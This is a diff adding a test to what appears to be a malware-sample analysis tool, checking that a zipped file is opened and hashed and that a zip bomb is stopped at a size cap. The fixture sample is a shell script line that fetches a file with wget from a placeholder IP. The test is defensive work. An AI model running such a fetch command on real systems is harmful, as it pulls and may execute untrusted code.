@@ -57,6 +57,22 @@ test('gzip is opened and its content returned for analysis; a gzip bomb stops at
   assert.match(b.file.description, /inflates past 1048576 bytes/);
 });
 
+test('the first file of a zip is opened; a zip bomb stops at the cap', async () => {
+  const { Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } = await import('@zip.js/zip.js');
+  const zipOf = async (bytes: Uint8Array): Promise<Uint8Array> => {
+    const writer = new ZipWriter(new Uint8ArrayWriter(), { useWebWorkers: false, level: 9 });
+    await writer.add('x', new Uint8ArrayReader(bytes));
+    return writer.close();
+  };
+  const script = new TextEncoder().encode('#!/bin/sh\nwget http://198.51.100.7/y\n');
+  const a = await analyseSample('z', await zipOf(script), await options());
+  assert.equal(a.file.kind, 'zip');
+  assert.deepEqual([a.inner?.how, a.inner?.sha256], ['zip', sha(script)]);
+  const bomb = await analyseSample('zb', await zipOf(new Uint8Array(32 * 1024 * 1024)), await options({ maxInnerBytes: 1024 * 1024 }));
+  assert.equal(bomb.inner, null);
+  assert.match(bomb.file.description, /inflates past 1048576 bytes: not analysed inside/);
+});
+
 test('garbage and truncated inputs analyse without throwing', async () => {
   const opts = await options();
   for (const bytes of [new Uint8Array(0), Uint8Array.of(0x7f, 0x45, 0x4c, 0x46), new Uint8Array(4096).fill(0xff)]) {
